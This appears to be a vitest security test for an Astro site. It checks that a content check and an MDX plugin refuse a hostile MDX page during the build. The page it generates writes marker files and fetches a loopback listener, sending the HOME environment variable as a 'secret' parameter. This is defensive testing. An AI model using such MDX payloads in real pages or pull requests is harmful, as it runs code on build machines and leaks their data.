/**
 * A pull request is untrusted: a page whose MDX would write a file and send a request
 * during the build must be refused before any of its code runs. This builds a copy of
 * the site (in a temporary folder, never in content/) with such a page, while a
 * listener on the loopback interface counts requests, and shows that the build
 * failed with the page named, no file was written and no request arrived.
 *
 * Twice: with the project's configuration (the content check refuses it before the
 * build), and with the content check taken out of the configuration, so the MDX
 * plugin inside the build's Markdown processor alone has to refuse it. And once as a
 * control, with both taken out: then the file is written and the request arrives,
 * which shows that the test would see it happen.
 */
import { spawn } from 'node:child_process';
import { cpSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { linkNodeModules } from '../support/link-modules.ts';

const ROOT = join(import.meta.dirname, '..', '..');
const PAGE = 'content/docs/geschiedenis/kwaadaardig.mdx';
const work = mkdtempSync(join(tmpdir(), 'om-hostile-'));
let server: Server;
let port = 0;
const requests: string[] = [];

type Guard = 'both' | 'plugin' | 'none';

/** A copy of the site (sources, content, configuration; node_modules hard-linked) with the hostile page. */
function copyWithHostilePage(name: string, guard: Guard) {
  const root = join(work, name);
  const markers = { expression: join(root, 'geschreven-door-expressie'), esm: join(root, 'geschreven-door-export') };
  for (const entry of ['astro.config.mjs', 'package.json', 'tsconfig.json', 'src', 'public', 'content']) {
    cpSync(join(ROOT, entry), join(root, entry), { recursive: true });
  }
  mkdirSync(root, { recursive: true });
  // Hard links, as the benchmark does (a symbolic link confuses Astro's paths); its own content cache.
  linkNodeModules(ROOT, root);
  let config = readFileSync(join(root, 'astro.config.mjs'), 'utf8');
  const take = (what: RegExp | string) => {
    const without = config.replace(what, '');
    if (without === config) throw new Error(`could not take ${String(what)} out of the configuration`);
    config = without;
  };
  if (guard !== 'both') take('    contentCheck(),\n');
  if (guard === 'none') take(/ {4}processor: satteri\(.*\),\n/);
  writeFileSync(join(root, 'astro.config.mjs'), config);
  writeFileSync(
    join(root, PAGE),
    [
      '---',
      'title: Een gewone pagina',
      'type: page',
      '---',
      '',
      "import { writeFileSync } from 'node:fs';",
      `export const written = writeFileSync(${JSON.stringify(markers.esm)}, 'export');`,
      '',
      'Tekst.',
      '',
      `{process.getBuiltinModule('node:fs').writeFileSync(${JSON.stringify(markers.expression)}, 'expressie')}`,
      '',
      `{fetch('http://127.0.0.1:${String(port)}/${name}?geheim=' + encodeURIComponent(process.env.HOME ?? ''))}`,
      '',
    ].join('\n'),
  );
  return { root, markers, requests: () => requests.filter((r) => r.startsWith(`/${name}?`)) };
}

/** Runs `astro build` in `root`; resolves with its exit code and output. */
function build(root: string): Promise<{ code: number | null; output: string }> {
  return new Promise((resolve) => {
    const child = spawn(process.execPath, [join(ROOT, 'node_modules', 'astro', 'bin', 'astro.mjs'), 'build'], {
      cwd: root,
      env: { ...process.env, FORCE_COLOR: '0', ASTRO_TELEMETRY_DISABLED: '1' },
    });
    let output = '';
    child.stdout.on('data', (d: Buffer) => (output += d.toString()));
    child.stderr.on('data', (d: Buffer) => (output += d.toString()));
    child.on('close', (code) => resolve({ code, output }));
  });
}

beforeAll(async () => {
  server = createServer((req, res) => {
    requests.push(req.url ?? '');
    res.end('ok');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const address = server.address();
  port = typeof address === 'object' && address ? address.port : 0;
});

afterAll(async () => {
  await new Promise<void>((resolve) => server.close(() => resolve()));
  rmSync(work, { recursive: true, force: true });
});

describe('a page with code in it', () => {
  it.each([
    ['the project configuration (content check first)', 'both', /kwaadaardig\.mdx:6 {2}een "import" is niet toegestaan/],
    ['only the MDX plugin inside the build', 'plugin', /Deze pagina is geweigerd, er is niets van uitgevoerd/],
  ] as const)(
    'is refused by %s: nothing written, no request sent',
    async (_name, guard, message) => {
      const site = copyWithHostilePage(guard, guard);
      const { code, output } = await build(site.root);
      // Give a request that might still be under way the time to arrive.
      await new Promise((resolve) => setTimeout(resolve, 500));
      expect(code, output).not.toBe(0);
      expect(output).toMatch(message);
      expect(output).toContain(PAGE);
      expect(output).toMatch(/tekst tussen accolades \{…\} is code en is niet toegestaan/);
      expect(existsSync(site.markers.expression), 'the expression wrote its file').toBe(false);
      expect(existsSync(site.markers.esm), 'the export wrote its file').toBe(false);
      expect(site.requests(), 'a request reached the listener').toEqual([]);
      expect(existsSync(join(site.root, 'dist', 'geschiedenis', 'kwaadaardig', 'index.html'))).toBe(false);
    },
    300_000,
  );

  it('runs during the build when nothing guards it (control: the test sees the harm)', async () => {
    const site = copyWithHostilePage('none', 'none');
    await build(site.root);
    await new Promise((resolve) => setTimeout(resolve, 1000));
    expect(existsSync(site.markers.expression)).toBe(true);
    expect(site.requests().length).toBeGreaterThan(0);
  }, 300_000);
});
